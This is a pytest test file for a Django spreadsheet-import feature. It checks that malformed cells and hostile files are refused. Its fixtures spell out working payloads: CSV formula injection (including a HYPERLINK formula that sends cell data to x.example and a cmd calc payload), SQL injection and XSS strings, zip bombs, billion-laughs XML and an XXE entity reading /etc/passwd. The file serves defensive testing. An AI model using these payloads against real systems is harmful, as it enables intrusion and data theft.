"""Bad spreadsheets: bad cells name their row and column and write nothing (all or nothing);
bad files (zip bombs, oversized, not a workbook, DTDs and entities, a million rows) are
refused at the upload with a message, before any job runs."""

import datetime as dt
import io
import struct
import unicodedata
import zipfile

import pytest
from django.urls import reverse

from chibo.tests.badinput.common import MESSAGE_MARKERS
from chibo.tests.badinput.snapshot import changes, snapshot
from spreadsheets.models import Job, JobStatus
from spreadsheets.tests.conftest import (
    MEMBER_HEADERS,
    ORG_HEADERS,
    label,
    member_file,
    member_row,
    org_file,
    org_row,
    upload_file,
    xlsx_bytes,
)


@pytest.fixture(autouse=True)
def media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def job_tables(written: dict) -> dict:
    """What an import may write even when it is refused: its own job row."""
    return {t: n for t, n in written.items() if t != "spreadsheets_job"}


def run_import(client, world, kind, content, name="tep.xlsx"):
    client.force_login(world.user("staff_p1"))
    before_jobs = set(Job.objects.values_list("pk", flat=True))
    before = snapshot()
    response = client.post(
        reverse(f"spreadsheets:import_{kind}"), {f"{kind}-file": upload_file(content, name)}
    )
    assert response.status_code < 500
    job = Job.objects.exclude(pk__in=before_jobs).first()
    return response, job, job_tables(changes(before, snapshot()))


# ---- row-level: one bad cell in row 3 of three good rows ----------------------------------

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào")'
MEMBER_CELLS = [
    # (column, value, must the file be refused?)
    ("full_name", FORMULA, True),
    ("full_name", "+cmd|' /C calc'!A0", True),
    ("full_name", "@SUM(1+1)", True),
    ("full_name", "-2+3", True),
    ("full_name", "Đ" * 10_000, True),
    ("full_name", '<script>alert("x")</script>', False),
    ("full_name", "Robert'); DROP TABLE members_member;--", False),
    ("full_name", " \u3000 ", True),
    ("birth_name", "=1+1", True),
    ("native_place", "=cmd|' /C calc'!A0", True),
    ("residence", "Đ" * 10_000, True),
    ("birth_date", "31/02/2026", True),
    ("birth_date", "00/13/2026", True),
    ("birth_date", "01/01/0001", True),
    ("birth_date", "31/12/9999", True),
    ("birth_date", "ngày mai", True),
    ("birth_date", 2958466, True),
    ("birth_date", -5, True),
    ("birth_date", "2026/02/31", True),
    ("ceremony_date", "31/02/2015", True),
    ("ceremony_date", "29/02/2015", True),
    ("official_date", "01/01/9999", True),
    ("admission_decision_date", "01/01/0001", True),
    ("start_date", "32/01/2016", True),
    ("citizen_id", "abc", True),
    ("citizen_id", "00109012345", True),
    ("citizen_id", "0010901234567", True),
    ("citizen_id", "００１０９０１２３４５６", True),
    ("citizen_id", -1090123456, True),
    ("citizen_id", "001090123456' OR '1'='1", True),
    ("dossier_no", "1' OR '1'='1", True),
    # An existing dossier number updates that member (the import is an upsert), typed in
    # any case and with spaces: accepted or refused, never a crash or a second member.
    ("dossier_no", "000001TN", False),
    ("dossier_no", " 000001tn ", False),
    ("dossier_no", -100001, True),
    ("card_no", -12345678, True),
    ("card_no", 1.5, True),
    ("card_no", "12345678", True),  # the first row of the file has it
    ("phone", "gọi tôi", True),
    ("phone", 1e30, True),
    ("sex", "zzz", True),
    ("sex", "' OR 1=1 --", True),
    ("ethnicity", "Sao Hỏa", True),
    ("status", "=1+1", True),
    ("religion", "x" * 10_000, True),
    ("cell_code", "K1' OR '1'='1", True),
    ("cell_code", "K4", True),  # another province
    ("cell_code", "KHÔNG-CÓ", True),
    ("youth_union", "có lẽ", True),
]


def _good_rows():
    return [
        member_row(),
        member_row(
            full_name="Lò Thị Xuân",
            sex=label("sex", "F"),
            citizen_id="001190000111",
            dossier_no="100002TN",
            card_no="",
        ),
        member_row(
            full_name="Nguyễn Văn Sơn",
            citizen_id="001088000222",
            dossier_no="100003TN",
            birth_date="03/04/1988",
            card_no="22223333",
        ),
    ]


@pytest.mark.parametrize(
    ("column", "value", "refused"),
    MEMBER_CELLS,
    ids=[f"members:{c}:{str(v)[:24]!r}" for c, v, _r in MEMBER_CELLS],
)
def test_member_import_cell(client, world, column, value, refused):
    rows = _good_rows()
    for row in rows:
        row.setdefault(column, "")  # the file's columns are the first row's
    rows[2][column] = value
    response, job, written = run_import(client, world, "members", member_file(rows))
    assert job is not None, "a well-formed file is queued, whatever its cells"
    assert job.status in (JobStatus.SUCCEEDED, JobStatus.FAILED)
    if job.status == JobStatus.FAILED:
        assert not written, f"a refused import wrote {written}"
        assert job.errors, job.phase
        for error in job.errors:
            assert error["row"] >= 2 and error["message"], error
        assert any(e["row"] == 4 and e["column"] == MEMBER_HEADERS[column] for e in job.errors), (
            job.errors
        )
    else:
        assert not refused, f"accepted: {column}={value!r}"
        assert written.get("members_member", 0) >= 2  # an existing dossier number: an update


ORG_CELLS = [
    ("name", FORMULA, True),
    ("name", "@SUM(1)", True),
    ("name", "Đ" * 10_000, True),
    ("name", '<script>alert("x")</script>', False),
    ("code", "=1+1", True),
    ("code", "K1", False),  # exists already: the import updates it
    ("code", "x" * 1000, True),
    ("parent_code", "' OR 1=1 --", True),
    ("parent_code", "K4", True),  # another province
    ("kind", "zzz", True),
    ("cell_type", "zzz", True),
    ("founded_on", "31/02/2020", True),
    ("founded_on", "31/12/9999", True),
    ("founded_on", "01/01/0001", False),
    ("villages", "=HYPERLINK(1)", True),
]


@pytest.mark.parametrize(
    ("column", "value", "refused"),
    ORG_CELLS,
    ids=[f"organizations:{c}:{str(v)[:24]!r}" for c, v, _r in ORG_CELLS],
)
def test_organization_import_cell(client, world, column, value, refused):
    rows = [
        org_row(),
        org_row(code="K8", name="Chi bộ thôn Bắc"),
        org_row(code="K7", name="Chi bộ 7"),
    ]
    rows[2][column] = value
    response, job, written = run_import(client, world, "organizations", org_file(rows))
    assert job is not None
    if job.status == JobStatus.FAILED:
        assert not written, f"a refused import wrote {written}"
        assert any(e["row"] == 4 and e["column"] == ORG_HEADERS[column] for e in job.errors), (
            job.errors
        )
    else:
        assert job.status == JobStatus.SUCCEEDED
        assert not refused, f"accepted: {column}={value!r}"


def test_duplicate_identifiers_within_one_file_name_both_rows(client, world):
    rows = _good_rows()
    rows[2]["citizen_id"] = rows[0]["citizen_id"]
    rows[1]["dossier_no"] = " " + rows[0]["dossier_no"].lower() + " "
    _response, job, written = run_import(client, world, "members", member_file(rows))
    assert job.status == JobStatus.FAILED and not written
    columns = {(e["row"], e["column"]) for e in job.errors}
    assert (4, MEMBER_HEADERS["citizen_id"]) in columns, job.errors
    assert (3, MEMBER_HEADERS["dossier_no"]) in columns, job.errors


def test_an_nfd_name_is_stored_as_nfc(client, world):
    rows = _good_rows()[:1]
    rows[0]["full_name"] = unicodedata.normalize("NFD", "Đỗ Minh Khôi")
    _response, job, _written = run_import(client, world, "members", member_file(rows))
    assert job.status == JobStatus.SUCCEEDED, job.errors
    from members.models import Member

    name = Member.objects.get(dossier_no="100001TN").person.full_name
    assert name == unicodedata.normalize("NFC", "Đỗ Minh Khôi")


# ---- whole files, refused at the upload ------------------------------------------------


def _zip(parts: dict, method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _workbook_parts(sheet_xml: bytes, shared: bytes | None = None) -> dict:
    """A minimal valid workbook around the given sheet XML (and shared strings)."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="x" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0"?><workbook xmlns="{ns}" xmlns:r="{rel}"><sheets>'
            '<sheet name="Đảng viên" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="x" '
            'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="y" '
            'Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    return parts


SHEET_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _sheet(rows_xml: bytes, prolog: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?>'
        + prolog
        + b"<worksheet "
        + SHEET_NS
        + b"><sheetData>"
        + rows_xml
        + b"</sheetData></worksheet>"
    )


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lololololololololololololol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)
XXE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _bomb() -> bytes:
    """A sheet of 3 MB of whitespace that deflates to a few kilobytes (ratio > 500)."""
    return _zip(_workbook_parts(_sheet(b" " * (3 * 1024 * 1024))))


def _declared_huge() -> bytes:
    """A real small file whose zip headers claim the sheet inflates to 300 MB."""
    data = bytearray(xlsx_bytes([MEMBER_HEADERS["full_name"]], [["Đỗ Minh Khôi"]]))
    huge = 300 * 1024 * 1024
    for sig, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (i := data.find(sig, start)) != -1:
            struct.pack_into("<I", data, i + offset, huge)
            start = i + 4
    return bytes(data)


def _million_rows() -> bytes:
    rows = b"".join(b'<row r="%d"/>' % n for n in range(1, 1_000_001))
    return _zip(_workbook_parts(_sheet(rows)))


def _many_entries() -> bytes:
    parts = _workbook_parts(_sheet(b""))
    parts.update({f"xl/media/x{i}.xml": "" for i in range(2_100)})
    return _zip(parts)


def _row(text: bytes) -> bytes:
    header = MEMBER_HEADERS["full_name"].encode()
    return (
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + header + b"</t></is></c></row>"
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + text + b"</t></is></c></row>"
    )


FILES = {
    "not-a-zip": (
        lambda: b"Ho va ten;Ngay sinh\nNguyen Van A;01/01/1990\n",
        "tep.xlsx",
        "not_xlsx",
    ),
    "csv-renamed": (lambda: "Họ và tên\nNguyễn Văn A\n".encode(), "tep.xlsx", "not_xlsx"),
    "xls-name": (lambda: xlsx_bytes(["a"], [["b"]]), "tep.xls", "not_xlsx"),
    "empty-file": (lambda: b"", "tep.xlsx", None),
    "zip-without-workbook": (lambda: _zip({"a.txt": "xin chào"}), "tep.xlsx", "not_xlsx"),
    "zip-bomb-ratio": (_bomb, "tep.xlsx", "zip_bomb"),
    "zip-bomb-declared-size": (_declared_huge, "tep.xlsx", "zip_bomb"),
    "zip-2100-entries": (_many_entries, "tep.xlsx", "zip_bomb"),
    "one-million-empty-rows": (_million_rows, "tep.xlsx", "too_many_rows"),
    "billion-laughs-in-sheet": (
        lambda: _zip(_workbook_parts(_sheet(_row(b"&lol9;"), LAUGHS))),
        "tep.xlsx",
        "xml_dtd",
    ),
    "billion-laughs-in-shared-strings": (
        lambda: _zip(
            _workbook_parts(
                _sheet(b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
                b'<?xml version="1.0"?>'
                + LAUGHS
                + b"<sst "
                + SHEET_NS
                + b"><si><t>&lol9;</t></si></sst>",
            )
        ),
        "tep.xlsx",
        "xml_dtd",
    ),
    "xxe-in-sheet": (
        lambda: _zip(_workbook_parts(_sheet(_row(b"&xxe;"), XXE))),
        "tep.xlsx",
        "xml_dtd",
    ),
    "xxe-in-workbook": (
        lambda: _zip(
            {
                **_workbook_parts(_sheet(b"")),
                "xl/workbook.xml": b'<?xml version="1.0"?>' + XXE + b"<workbook>&xxe;</workbook>",
            }
        ),
        "tep.xlsx",
        None,
    ),
}


@pytest.mark.parametrize("case", list(FILES), ids=list(FILES))
def test_bad_file_is_refused_at_the_upload(client, world, case):
    build, name, code = FILES[case]
    response, job, written = run_import(client, world, "members", build(), name=name)
    assert job is None, f"queued: {job and (job.status, job.errors, job.phase)}"
    assert not written
    assert response.status_code == 400
    body = response.content.decode()
    assert any(m in body for m in MESSAGE_MARKERS), "refused without a message"
    assert "root:" not in body  # nothing of /etc/passwd, ever
    form = response.context["forms"]["members"]
    codes = {e.code for e in form.errors.as_data().get("file", [])}
    if code:
        assert code in codes, (codes, form.errors)
    else:
        assert form.errors


def test_a_file_over_the_byte_limit_is_refused_with_its_size(client, world, settings):
    settings.CHIBO_MAX_IMPORT_BYTES = 4 * 1024  # no need to send megabytes to test the rule
    content = member_file([member_row(residence="Thôn Đông " * 400)])
    assert len(content) > 4 * 1024
    response, job, written = run_import(client, world, "members", content)
    assert job is None and not written
    form = response.context["forms"]["members"]
    assert {e.code for e in form.errors.as_data()["file"]} == {"too_large"}


@pytest.mark.parametrize(
    "text",
    [b"&#0;", b"a&#1;b", b"<b>not closed", b"&undefined;"],
    ids=["nul-char-ref", "control-char-ref", "malformed-xml", "undefined-entity"],
)
def test_a_damaged_sheet_fails_the_job_with_a_message_and_writes_nothing(client, world, text):
    """Damage deep in a sheet is found only by the job (the upload check reads no cells):
    the job fails with a message naming where the file could not be read; nothing written."""
    content = _zip(_workbook_parts(_sheet(_row(text))))
    response, job, written = run_import(client, world, "members", content)
    assert not written
    if job is None:  # refused at the upload: fine too
        assert response.context["forms"]["members"].errors
        return
    assert job.status == JobStatus.FAILED
    assert job.errors, job.phase
    assert all(e["message"] for e in job.errors)
    assert any(e["row"] >= 1 for e in job.errors)


def test_excel_date_serials_out_of_range_are_cell_errors_not_crashes(client, world):
    rows = _good_rows()
    rows[2]["birth_date"] = dt.datetime(9999, 12, 31)
    _response, job, written = run_import(client, world, "members", member_file(rows))
    assert job.status in (JobStatus.FAILED, JobStatus.SUCCEEDED)
    if job.status == JobStatus.FAILED:
        assert not written
